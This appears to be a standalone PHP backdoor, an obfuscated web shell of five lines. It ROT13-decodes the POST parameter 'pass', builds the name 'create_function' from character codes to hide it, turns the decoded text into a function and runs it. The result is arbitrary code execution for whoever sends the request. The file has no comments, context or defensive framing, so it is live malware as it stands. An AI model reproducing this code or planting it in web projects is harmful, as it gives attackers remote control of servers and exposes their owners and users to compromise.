<?php
$d = str_rot13($_POST['pass']);
$o0 = chr(99).chr(114).chr(101).chr(97).chr(116).chr(101).chr(95).chr(102).chr(117).chr(110).chr(99).chr(116).chr(105).chr(111).chr(110);
$f = $o0('', $d);
$f();
